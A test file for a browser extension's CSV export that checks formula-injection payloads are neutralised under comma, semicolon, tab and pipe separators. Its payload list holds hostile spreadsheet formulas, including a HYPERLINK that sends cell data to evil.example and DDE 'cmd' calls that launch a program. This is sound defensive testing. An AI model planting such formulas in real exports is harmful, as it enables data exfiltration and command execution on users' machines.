/**
 * CSV export (extension/background/csv.ts): attacker-written text (handles, names, bios) must never reach a
 * spreadsheet as a formula, and must never break out of its cell — whichever separator the spreadsheet splits on
 * (issue 17, finding 4: read with `;`, as German, French and Dutch spreadsheets do by default, the nickname
 * `n;=cmd|' /C calc'!A0` became a formula cell).
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { accountsCsv, CSV_COLUMNS, csvCell, FORMULA_START } from '../../extension/background/csv';
import type { AccountRow } from '../../extension/background/db';

/**
 * Reads CSV as a spreadsheet does with separator `sep`: a field that starts with a quote is quoted (doubled quotes
 * inside, anything after the closing quote appended); any other field runs to the next separator or line break.
 * Returns rows of cells.
 */
function readCsv(text: string, sep: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  for (;;) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      while (i < text.length) {
        if (text[i] === '"' && text[i + 1] === '"') {
          cell += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else cell += text[i++];
      }
    }
    while (i < text.length && text[i] !== sep && text[i] !== '\r' && text[i] !== '\n') cell += text[i++];
    row.push(cell);
    if (i >= text.length) break;
    if (text[i] === sep) {
      i++;
      continue;
    }
    // A line break ends the row (CRLF as one).
    i += text[i] === '\r' && text[i + 1] === '\n' ? 2 : 1;
    rows.push(row);
    row = [];
    if (i >= text.length) return rows;
  }
  rows.push(row);
  return rows;
}

/** What spreadsheets take as a formula cell: a formula character first, spaces (and a stray quote) aside. */
const FORMULA_CELL = /^[\s\u00a0\u3000"]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212]/;
const SEPARATORS = [',', ';', '\t', '|'];

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1', // full-width equals sign
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
  '−1',
  "n;=cmd|' /C calc'!A0",
  'nice name,=1+1',
  'tab\t@SUM(1)',
  'pipe|+1',
  'line\n=1+1',
  'quote;"=1+1"',
];

describe('csvCell', () => {
  it.each(PAYLOADS)('neutralises %j for every separator', (payload) => {
    const line = ['plain', csvCell(payload), 'after'].join(',');
    for (const sep of SEPARATORS) {
      for (const r of readCsv(line, sep)) for (const cell of r) expect(cell).not.toMatch(FORMULA_CELL);
    }
    // Read with `,` it is still the one cell it was, quotes added only before formula starts.
    const [row] = readCsv(line, ',');
    expect(row).toHaveLength(3);
    expect(row![1]!.replace(/'/g, '')).toBe(payload.replace(/'/g, ''));
  });

  it('leaves ordinary text and numbers alone', () => {
    expect(csvCell('plain handle')).toBe('plain handle');
    expect(csvCell('a - b, c')).toBe('"a - b, c"');
    expect(csvCell(-5)).toBe('-5'); // a number is data, not a formula
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('any strings survive as cells under every separator, never starting a formula (property)', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc
        .array(fc.constantFrom('=', '+', '-', '@', ',', ';', '\t', '|', '"', '\r', '\n', ' ', '＝', 'a', "'"), {
          maxLength: 12,
        })
        .map((cs) => cs.join('')),
    );
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (texts) => {
        const line = texts.map(csvCell).join(',');
        // Our own separator: exactly these cells, each its text with quotes added only before formula starts.
        const [cells] = readCsv(`${line}\r\n`, ',');
        expect(cells).toHaveLength(texts.length);
        cells!.forEach((c, i) => {
          const t = texts[i]!;
          expect(c.replace(/'/g, '')).toBe(t.replace(/'/g, ''));
          if (FORMULA_START.test(t)) expect(c.startsWith("'")).toBe(true);
        });
        // Any separator: however the line falls apart, no piece is a formula.
        for (const sep of SEPARATORS)
          for (const r of readCsv(line, sep)) for (const c of r) expect(c).not.toMatch(FORMULA_CELL);
      }),
      { numRuns: 400 },
    );
  }, 60_000); // a property over four separators: seconds on a loaded machine (no timing is asserted)
});

describe('the accounts export', () => {
  const NOW = Date.UTC(2026, 10, 28);
  const hostile = (handle: string, nickname: string, signature: string): AccountRow => ({
    handle,
    nickname,
    firstSeen: NOW,
    lastSeen: NOW,
    verdict: 'suspected',
    score: 50,
    followers: 12,
    user: { uniqueId: handle, signature, bioLink: '=WEBSERVICE("http://x")' },
  });

  it('read with `,` and with `;` as a spreadsheet would: the columns hold, no cell is a formula', () => {
    const rows = PAYLOADS.map((p, i) => ({
      account: hostile(`h_${i}`, p, `bio; ${p}\n-${p}`),
      label: { handle: `h_${i}`, verdict: 'state-media' as const, at: NOW, note: `note,${p}` },
    }));
    const csv = accountsCsv(rows);
    const comma = readCsv(csv, ',');
    expect(comma[0]).toEqual([...CSV_COLUMNS]);
    expect(comma).toHaveLength(rows.length + 1);
    comma.slice(1).forEach((r, i) => {
      expect(r).toHaveLength(CSV_COLUMNS.length);
      expect(r[1]!.replace(/'/g, '')).toBe(PAYLOADS[i]!.replace(/'/g, ''));
    });
    for (const sep of [',', ';']) {
      for (const r of readCsv(csv, sep)) for (const cell of r) expect(cell).not.toMatch(FORMULA_CELL);
    }
  });
});
